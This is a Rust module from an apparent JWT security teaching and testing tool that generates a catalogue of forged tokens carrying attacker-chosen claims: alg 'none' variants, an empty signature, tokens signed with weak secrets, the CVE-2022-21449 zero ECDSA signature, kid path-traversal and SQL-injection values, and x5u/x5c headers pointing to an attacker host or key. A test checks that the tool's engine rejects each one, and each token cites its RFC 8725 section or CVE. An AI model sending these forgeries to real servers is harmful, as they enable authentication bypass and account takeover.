//! The JWT attack catalogue (after jwt_tool's): tokens forged to carry any claims past a server
//! that checks carelessly, each with the RFC 8725 section or CVE that says why a server refuses
//! it. `authpath probe --attacks` sends them to a live server; the engine refuses each at its own
//! check (its tests hold it), except a token signed with a weak secret the server really uses,
//! which passes — the lesson being that the key is the whole defence.
//!
//! ```
//! use authpath_engine::teach::attacks::forged_tokens;
//! use authpath_engine::{evaluate, Claims, Scenario};
//!
//! let claims = Claims { sub: Some("mallory".into()), role: Some("admin".into()), ..Claims::default() };
//! for forged in forged_tokens(&claims) {
//!     let raw = format!("GET /admin HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {}\r\n\r\n", forged.token);
//!     assert_eq!(evaluate(&raw, &Scenario::default()).response.status.code(), 401, "{}", forged.id);
//! }
//! ```

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine as _;
use serde::Serialize;

use crate::token::{sign, signing_input, Claims};

/// Secrets that tutorials, defaults and leaked configurations use for HS256, the first a
/// guesser tries (jwt.io's example secret among them). A server whose key is one of them
/// accepts whatever a guesser signs.
pub const WEAK_SECRETS: [&str; 6] = [
    "secret",
    "your-256-bit-secret",
    "password",
    "changeme",
    "jwt_secret",
    "123456",
];

/// Where an attacker's `x5u` points: a certificate on the attacker's host.
pub const ATTACKER_X5U: &str = "https://attacker.example/cert.pem";

/// A `kid` that walks out of a key folder to a file every Unix system has, empty: a server
/// that reads the key from the path the `kid` names verifies with an empty secret.
pub const KID_TRAVERSAL: &str = "../../../../../../../dev/null";

/// A `kid` shaped as SQL injection: a server that looks the key up with it in a query, unescaped,
/// gets the key the attacker chose (`authpath-forged`).
pub const KID_INJECTION: &str = "nothing' UNION SELECT 'authpath-forged' -- ";

/// One forged token.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Forged {
    /// Stable id, e.g. `alg-none-mixed-case`, `weak-secret-secret`.
    pub id: String,
    /// What was done, in a few words.
    pub title: String,
    /// Why a server refuses it: the RFC 8725 section or the CVE.
    pub source: &'static str,
    /// The compact JWS.
    pub token: String,
}

/// Every attack of the catalogue, carrying `claims`, in a fixed order: `alg` none written four
/// ways, an empty signature, one token per weak secret, the psychic ECDSA signature, `kid`
/// traversal and injection, and an `x5u` on the attacker's host.
pub fn forged_tokens(claims: &Claims) -> Vec<Forged> {
    let mut forged = Vec::new();
    let mut add = |id: String, title: String, source: &'static str, token: String| {
        forged.push(Forged {
            id,
            title,
            source,
            token,
        });
    };
    for (id, alg) in [
        ("alg-none", "none"),
        ("alg-none-capitalised", "None"),
        ("alg-none-upper-case", "NONE"),
        ("alg-none-mixed-case", "nOnE"),
    ] {
        add(
            id.to_string(),
            format!("alg {alg}: unsigned"),
            "RFC 8725 §3.1",
            format!(
                "{}.",
                signing_input(&format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#), claims)
            ),
        );
    }
    add(
        "empty-signature".to_string(),
        "HS256 with an empty signature".to_string(),
        "RFC 8725 §3.1",
        format!(
            "{}.",
            signing_input(r#"{"alg":"HS256","typ":"JWT"}"#, claims)
        ),
    );
    for secret in WEAK_SECRETS {
        add(
            format!("weak-secret-{secret}"),
            format!("HS256 signed with the guessable secret {secret:?}"),
            "RFC 8725 §3.5",
            sign(r#"{"alg":"HS256","typ":"JWT"}"#, claims, secret),
        );
    }
    // r = 0 and s = 0: Java 15–18's ECDSA accepted it for any message and key (CVE-2022-21449).
    add(
        "psychic-signature".to_string(),
        "ES256 with r = s = 0 (psychic signature)".to_string(),
        "CVE-2022-21449",
        format!(
            "{}.{}",
            signing_input(r#"{"alg":"ES256","typ":"JWT"}"#, claims),
            URL_SAFE_NO_PAD.encode([0u8; 64])
        ),
    );
    add(
        "kid-traversal".to_string(),
        format!("kid {KID_TRAVERSAL}, signed with an empty secret"),
        "RFC 8725 §3.10",
        sign(
            &format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{KID_TRAVERSAL}"}}"#),
            claims,
            "",
        ),
    );
    add(
        "kid-injection".to_string(),
        "kid shaped as SQL injection, signed with the key it selects".to_string(),
        "RFC 8725 §3.10",
        sign(
            &format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{KID_INJECTION}"}}"#),
            claims,
            "authpath-forged",
        ),
    );
    let input = signing_input(
        &format!(r#"{{"alg":"EdDSA","typ":"JWT","x5u":"{ATTACKER_X5U}"}}"#),
        claims,
    );
    let signature = crate::keys::attacker_signature(input.as_bytes());
    add(
        "x5u".to_string(),
        "x5u on the attacker's host, signed with the attacker's key".to_string(),
        "RFC 8725 §3.10",
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature)),
    );
    // An embedded certificate would need a certificate of the attacker's key; the attacker's
    // public key alone, base64 as x5c entries are, stands for it: a server must trust neither.
    let input = signing_input(
        &format!(
            r#"{{"alg":"EdDSA","typ":"JWT","x5c":["{}"]}}"#,
            STANDARD.encode(crate::keys::ATTACKER_PUBLIC)
        ),
        claims,
    );
    let signature = crate::keys::attacker_signature(input.as_bytes());
    add(
        "x5c".to_string(),
        "x5c carrying the attacker's key, signed with it".to_string(),
        "RFC 8725 §3.10",
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature)),
    );
    forged
}
